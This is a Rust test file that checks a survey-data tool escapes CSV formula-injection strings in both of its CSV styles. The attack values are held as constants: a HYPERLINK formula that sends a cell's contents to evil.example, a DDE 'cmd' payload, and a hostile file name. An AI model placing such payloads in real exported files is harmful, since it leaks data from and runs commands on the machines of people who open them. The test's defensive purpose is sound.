//! CSV formula injection: attack strings in an area code, a group code and
//! the input's file name must reach no CSV table as a formula, in either
//! CSV style (docs/FORMATS.md, "Text cells and spreadsheets").

use std::path::Path;

use crate::common::{hyte, root, stderr_of, write_config};

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")";
const CMD: &str = "+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+9)";
/// The input's file name: what the `source` column is made of.
const FILE: &str = "-2+3+cmd|' calc'!A0.json";

/// Whether a spreadsheet would run `cell` as a formula.
fn formula_like(cell: &str) -> bool {
    match cell.as_bytes().first() {
        Some(b'=' | b'+' | b'@' | b'\t' | b'\r') => true,
        // A negative number, with a decimal point or (excel-fi) a comma.
        Some(b'-') => cell.replace(',', ".").parse::<f64>().is_err(),
        _ => false,
    }
}

/// Every cell of every CSV table under `tables`.
fn cells(tables: &Path, separator: u8) -> Vec<(String, String)> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(tables).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("csv") {
            continue;
        }
        let bytes = std::fs::read(&path).unwrap();
        let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(&bytes);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .from_reader(bytes);
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        for header in reader.headers().unwrap() {
            found.push((name.clone(), header.to_string()));
        }
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                found.push((name.clone(), cell.to_string()));
            }
        }
    }
    found
}

#[test]
fn attack_strings_reach_no_csv_cell_as_a_formula() {
    let sample =
        std::fs::read_to_string(root().join("data-samples/survey/ktk_school_areas.json")).unwrap();
    // JSON-stat category keys as a hostile server could send them.
    let hostile = sample
        .replace(
            "\"lohja.anttila\"",
            &serde_json::to_string(HYPERLINK).unwrap(),
        )
        .replace("\"lohja.harju\"", &serde_json::to_string(CMD).unwrap())
        .replace("\"4-5\"", &serde_json::to_string(AT).unwrap());
    for (style, separator) in [("standard", b','), ("excel-fi", b';')] {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join(FILE), &hostile).unwrap();
        let config = write_config(
            dir.path(),
            &format!("[[input]]\nkind = \"jsonstat\"\npath = {FILE:?}\ncube = \"ktk\"\n"),
        );
        let out = hyte()
            .args(["run", "--csv", style, "--config"])
            .arg(&config)
            .output()
            .unwrap();
        // Some rows are rejected (an unknown group); the run still writes.
        assert!(
            matches!(out.status.code(), Some(0 | 3)),
            "{}",
            stderr_of(&out)
        );
        let cells = cells(&dir.path().join("out/current/tables"), separator);
        let unsafe_cells: Vec<_> = cells
            .iter()
            .filter(|(_, c)| formula_like(c))
            .take(5)
            .collect();
        assert!(unsafe_cells.is_empty(), "{style}: {unsafe_cells:?}");
        // Positive control: the attacks are there, as text.
        for attack in [HYPERLINK, CMD] {
            let shown = format!("'{attack}");
            let tables: Vec<_> = cells
                .iter()
                .filter(|(_, c)| *c == shown)
                .map(|(t, _)| t.as_str())
                .collect();
            assert!(
                tables.contains(&"observations.csv") && tables.contains(&"trends.csv"),
                "{style}: {attack} in {tables:?}"
            );
        }
        assert!(
            cells
                .iter()
                .any(|(t, c)| t == "observations.csv" && c.starts_with(&format!("'{FILE}"))),
            "{style}: the file name is in the source column"
        );
    }
}
